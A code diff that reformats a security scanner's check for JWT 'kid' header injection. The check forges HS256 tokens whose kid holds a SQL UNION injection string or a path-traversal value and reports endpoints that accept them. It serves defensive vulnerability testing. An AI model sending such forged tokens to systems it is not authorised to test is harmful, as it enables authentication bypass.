@@ -28,7 +28,10 @@ export default defineCheck({
       name: 'JWT KID Header Injection',
       url: 'https://www.cerberauth.com/docs/vulnapi/vulnerabilities/broken-authentication/jwt-kid-injection?utm_source=vulnapi-report',
       cvss: { version: 4.0, vector: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:N/SC:N/SI:N/SA:N', score: 9.3 },
-      classifications: { owasp: 'API2:2023 Broken Authentication', cwe: 'CWE-345: Insufficient Verification of Data Authenticity' },
+      classifications: {
+        owasp: 'API2:2023 Broken Authentication',
+        cwe: 'CWE-345: Insufficient Verification of Data Authenticity',
+      },
     },
   ],
   maxCvss: 9.3,
@@ -40,14 +43,21 @@ export default defineCheck({
     const facts = requireProtectedEndpoint(ctx);
     const payload = freshPayloadSegment(jwt);
     const report = (type: string, response: ProbeResponse): void =>
-      ctx.report(ISSUE, { detail: `${type}: a token with an injected kid is accepted (${response.status})`, attempt: response });
+      ctx.report(ISSUE, {
+        detail: `${type}: a token with an injected kid is accepted (${response.status})`,
+        attempt: response,
+      });
 
     const key = `gatehouse-${randomBytes(12).toString('hex')}`;
     const sqlKid = `x' UNION SELECT '${key}' -- `;
-    const sql = await ctx.http.send({ credential: hmacToken({ ...jwt.header, alg: 'HS256', kid: sqlKid }, payload, key) });
+    const sql = await ctx.http.send({
+      credential: hmacToken({ ...jwt.header, alg: 'HS256', kid: sqlKid }, payload, key),
+    });
     if (attackAccepted(sql, facts)) return report('sql_injection', sql);
 
-    const traversal = await ctx.http.send({ credential: hmacToken({ ...jwt.header, alg: 'HS256', kid: TRAVERSAL_KID }, payload, '') });
+    const traversal = await ctx.http.send({
+      credential: hmacToken({ ...jwt.header, alg: 'HS256', kid: TRAVERSAL_KID }, payload, ''),
+    });
     if (!attackAccepted(traversal, facts)) return;
     const control = await ctx.http.send({ credential: hmacToken({ ...jwt.header, alg: 'HS256' }, payload, '') });
     if (!attackAccepted(control, facts)) report('path_traversal', traversal);
